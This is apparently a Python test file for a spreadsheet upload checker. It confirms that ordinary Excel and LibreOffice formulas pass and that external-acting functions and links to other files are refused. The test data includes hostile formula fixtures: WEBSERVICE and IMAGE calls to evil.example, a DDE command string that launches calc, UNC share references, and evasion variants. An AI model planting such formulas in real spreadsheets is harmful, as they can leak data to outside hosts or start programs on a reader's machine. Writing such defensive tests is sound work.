"""Formulas as people write them pass; those that name something outside do not, however they are written."""

from html import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.factories.documents import X, xlsx
from tetouan_portal.lib.inspection import formulas
from tetouan_portal.lib.inspection.contents import examine
from tetouan_portal.lib.inspection.functions import PERMITTED
from tetouan_portal.lib.inspection.refused import Refused

HONEST = [
    "SUM(B2:B51)",
    "sum(B2:B51)*-(C1)",
    'A1&"WEBSERVICE("&B1',
    'IF(A1="a|\'b","[1]S!A1","\\\\share")',
    "_xlfn.XLOOKUP(A1,'Feuille d''avril'!A:A,Lignes[[#This Row],[N° d''ordre '[a']]])",
    "[[#This Row],[Crédits]]*2",
    "_xlfn.LET(_xlpm.x,1,_xlpm.x+1)",
    "_xlfn.LAMBDA(_xlpm.f,_xlpm.f(1))(_xleta.SUM)",
    "_xlfn._xlws.FILTER(A1:A3,B1:B3>1E+5)",
    "LOG10 (3)+ATAN2(1,2)+DAYS360(A1,A2)",
    'HYPERLINK("https://www.tetouan.ma/"&A1,"page")',
    'HYPERLINK("#\'"&A1&"\'!A1","aller")',
    'HYPERLINK("mailto:"&A1)',
    "INDIRECT($A2)",
    'CELL("filename",A1)',
    "#REF!+1/#DIV/0!-#N/A",
    "[0]!Nom+'it''s'!A1+Feuil1:Feuil3!A1+ميزانية!A1",
    "{1,2;3,4}",
    'IFERROR(__xludf.DUMMYFUNCTION("query(A1:B2,""select A"")"),"x")',
    'IFERROR(__xludf.DUMMYFUNCTION("""COMPUTED_VALUE"""),3)',
]
OPEN = [
    "of:=SUM([.A1:.A9];['Feuille d''avril'.$B$2])",
    'of:=COM.MICROSOFT.CONCAT([.A1];"#")+COM.SUN.STAR.SHEET.ADDIN.ANALYSIS.GETEDATE([.A1];1)',
    "of:={1;2|3;4}",
    "of:=[#REF!.A1]+[.#REF!]",
    'of:cell-content-is-in-list("a";"b")',
    "of:is-true-formula(SUM([.A1])>1)",
    "cell-content()>5",
    "msoxl:=SUM(A1:A9)",
    "$Feuille1.$A$1:.$B$2",
]
HOSTILE = ["WEBSERVICE", "IMAGE", "RTD", "CALL", "REGISTER.ID", "EXEC", "DDE", "CUBEVALUE", "FILTERXML", "INFO", "PY"]
# They ask elsewhere, start something, or tell of the reader's machine; of Excel, LibreOffice and Google.
ACTING = [
    *("WEBSERVICE", "FILTERXML", "IMAGE", "RTD", "DDE", "STOCKHISTORY", "CUBEVALUE", "CUBEMEMBER", "CUBESET"),
    *("CUBESETCOUNT", "CUBERANKEDMEMBER", "CUBEMEMBERPROPERTY", "CUBEKPIMEMBER", "CALL", "REGISTER"),
    *("REGISTER.ID", "EXEC", "EVALUATE", "RUN", "SQL.REQUEST", "INFO", "PY", "COPILOT", "DETECTLANGUAGE"),
    *("TRANSLATE", "LABS.GENERATIVEAI", "IMPORTDATA", "IMPORTFEED", "IMPORTHTML", "IMPORTRANGE", "IMPORTXML"),
    *("GOOGLEFINANCE", "GOOGLETRANSLATE", "AI"),
]
PREFIXES = [
    "",
    "_xlfn.",
    "_xlfn._xlws.",
    "_XLFN.",
    "_xludf.",
    "COM.MICROSOFT.",
    "@",
    "+",
    "-",
    "--",
    "1+",
    "A1&",
    "Feuil1!",
]
SPACES = ["", " ", "\n", "\t", "\r\n", "\u00a0", "\u200b", "\u0301"]
AROUND = ["{}", "IF(1,{},2)", "SUM(1,{})", "({})", "'Feuille 1'!A1+{}", '"a""b"&{}', "T1[[#This Row],[x '] y]]+{}"]
ELSEWHERE = [
    "'\\\\evil\\share\\[b.xlsx]S'!A1",
    "'https://evil.example/[b.xlsx]S'!A1",
    "https://evil.example/[b.xlsx]S!A1",
    "\\\\evil\\share\\[b.xlsx]S!A1",
    "[1]S!A1",
    "[12]!Nom",
    "a[1]S!A1",
    "cmd|'/c calc'!A0",
    "b.xlsx!Nom",
]


@pytest.mark.parametrize("formula", HONEST)
def test_a_formula_that_reads_its_own_workbook_passes(formula):
    formulas.check(formula)


@pytest.mark.parametrize("formula", OPEN)
def test_a_formula_of_libreoffice_that_reads_its_own_file_passes(formula):
    formulas.check_open(formula)


@pytest.mark.parametrize("name", sorted(PERMITTED))
def test_every_function_of_the_list_passes_with_the_prefix_that_programs_give_it(name):
    for prefix in ("", "_xlfn.", "_xlfn._xlws.", "COM.MICROSOFT.", "ORG.LIBREOFFICE."):
        formulas.check_open(f"of:={prefix}{name}([.A1];1)")
    if name not in {"HYPERLINK", "INDIRECT"}:
        formulas.check(f"{name}(A1,1)")


def refusal_of(formula):
    try:
        formulas.check(formula)
    except Refused as refused:
        return refused.code
    return ""


@pytest.mark.parametrize("name", ACTING)
def test_no_function_that_does_more_than_reckon_is_listed(name):
    for prefix in ("", "_xlfn.", "COM.MICROSOFT."):
        assert refusal_of(f'{prefix}{name}("http://evil.example")') == "function"
        with pytest.raises(Refused):
            formulas.check_open(f'of:={prefix}{name}("http://evil.example")')


@given(
    st.sampled_from(HOSTILE).flatmap(lambda name: st.tuples(*(st.sampled_from([c.upper(), c.lower()]) for c in name))),
    st.sampled_from(PREFIXES),
    st.sampled_from(SPACES),
    st.sampled_from(AROUND),
)
def test_no_way_of_writing_it_lets_a_function_pass_that_is_not_listed(letters, prefix, space, around):
    call = f'{prefix}{"".join(letters)}{space}("http://evil.example")'
    assert refusal_of(around.format(call)) == "function"


@given(st.sampled_from(ELSEWHERE), st.sampled_from(AROUND))
def test_no_way_of_writing_it_lets_another_file_pass(reference, around):
    assert refusal_of(around.format(reference)) == "reference"


@given(st.text(alphabet="AB1()[]{}'\"!#|\\/:.,;&@ _x\n", max_size=40))
def test_any_text_is_read_or_refused(text):
    assert refusal_of(text) in {"", "function", "reference", "link", "damaged"}


@given(st.sampled_from(["{}", "<![CDATA[{}]]>", "{}<!-- a -->", "<!-- a -->{}"]), st.sampled_from(["f", "x:f"]))
def test_no_way_of_packing_it_lets_a_formula_pass(packed, element):
    formula = 'WEBSERVICE("http://evil.example")'
    inside = packed.format(formula if "CDATA" in packed else escape(formula))
    cell = f"<c r='B2'><{element} t='a>b'>{inside}</{element}></c>"
    sheet = f"<worksheet {X} xmlns:x='x'><sheetData><row>{cell}</row></sheetData></worksheet>"
    with pytest.raises(Refused) as refusal:
        examine(xlsx({"xl/worksheets/sheet1.xml": sheet}))
    assert refusal.value.code == "function"


def test_the_refusal_names_the_function_the_sheet_and_the_cell():
    parts = {
        "xl/workbook.xml": f"<workbook {X} xmlns:r='r'><sheets><sheet name='Dépenses' r:id='r0'/></sheets></workbook>",
        "xl/_rels/workbook.xml.rels": "<R><Relationship Id='r0' Type='x' Target='worksheets/sheet1.xml'/></R>",
    }
    cells = '<c r="A1"><f>SUM(B1:B9)</f></c><c r="B7"><f>_xlfn.IMAGE("http://evil.example")</f></c>'
    with pytest.raises(Refused) as refusal:
        examine(xlsx(parts, cells=cells))
    assert refusal.value.params == {"name": "\u2068IMAGE\u2069", "place": "\u2068Dépenses B7\u2069"}
